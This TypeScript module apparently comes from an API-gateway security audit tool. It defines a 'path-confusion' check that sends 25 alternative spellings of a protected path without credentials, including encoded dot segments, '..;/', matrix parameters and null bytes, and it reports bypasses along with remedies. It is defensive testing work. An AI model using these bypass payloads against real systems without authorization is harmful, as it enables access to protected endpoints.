import type { Attack, AttackRequest, AttackTarget, SandboxRequest, Weakness } from '#contract';
import { lenientPath, otherEndpointOf, splitUrl } from '../paths.ts';
import { isServed, pathOf, withPath } from '../requests.ts';

/** Spellings of a path that different servers interpret differently. */
const spellings: readonly ((path: string) => string)[] = [
  (path) => `${path};a=b`,
  (path) => `/${path}`,
  (path) => `/.${path}`,
  (path) => `${path}/`,
  (path) => `${path}/.`,
  (path) => `${path}%2f`,
  (path) => `${path}%3f`,
  (path) => `${path}%3ba=b`,
  (path) => `/open/..${path}`,
  (path) => `/open/..;${path}`,
  (path) => `/open/%2e%2e${path}`,
  (path) => `/open/..%2f${path.slice(1)}`,
  (path) => `/open/%252e%252e${path}`,
  (path) => `/%2f${path.slice(1)}`,
  (path) => `/%5c${path.slice(1)}`,
  (path) => `\\${path.slice(1)}`,
  (path) => path.toUpperCase(),
  (path) => encodedFirst(path, '%'),
  (path) => encodedFirst(path, '%25'),
  (path) => path.replace(/(?<=.)\//, '%2f'),
  (path) => path.replace(/(?<=.)\//, ';/'),
  (path) => path.replace(/(?<=.)\//, '//'),
  (path) => `http://localhost${path}`,
  (path) => `${path}%20`,
  (path) => `${path}%00`,
];

export const pathConfusion: Attack = {
  name: 'path-confusion',
  severity: 'CRITICAL',
  title: 'Another spelling of a protected path reaches its backend without credentials',
  description:
    'Sends other spellings of the path of a protected endpoint without credentials: dot segments, "..;/", encoded and doubly encoded characters, matrix parameters, repeated slashes, letter case. A finding is a request to the same backend whose path a server may interpret as the path of the protected endpoint.',
  applies: () => true,
  async run(target) {
    const { anonymous, accepted, send } = target;
    const [wanted] = accepted.calls;
    if (!anonymous || !wanted) return [];
    for (const path of variants(target)) {
      const request = withPath(anonymous, path);
      const response = await send(request);
      const call = response.calls.find((each) => isServed(response) && isEquivalent(each, wanted));
      if (call) return [weakness(target, call, request)];
    }
    return [];
  },
};

/**
 * Spellings of the protected path that another endpoint could match; it would serve them without the checks of the
 * protected endpoint.
 */
function variants({ anonymous }: AttackTarget): ReadonlySet<string> {
  const path = pathOf(anonymous!);
  const all = new Set(spellings.map((spell) => spell(path)));
  all.delete(path);
  return all;
}

function weakness({ endpoints, id }: AttackTarget, { url }: SandboxRequest, request: AttackRequest): Weakness {
  const open = otherEndpointOf(endpoints, pathOf(request), id);
  return {
    shown: `A request without credentials reached the backend as ${url}, which servers can read as the protected path.`,
    remedy:
      'Protect the endpoint that forwards the request as well, or narrow its path; "path_parameters": "refuse" rejects matrix parameters (sluice audit 8.2.11).',
    pointer: open && `${open.pointer}/endpoint`,
    requests: [request],
  };
}

/** Whether a server may interpret the two URLs as the same. */
function isEquivalent(one: SandboxRequest, other: SandboxRequest): boolean {
  const [first, second] = [splitUrl(one.url), splitUrl(other.url)];
  return first.origin === second.origin && lenientPath(first.path) === lenientPath(second.path);
}

/** Encodes the first letter of a path. */
function encodedFirst(path: string, mark: string): string {
  return path.replace(/[a-z]/i, (letter) => `${mark}${letter.charCodeAt(0).toString(16)}`);
}
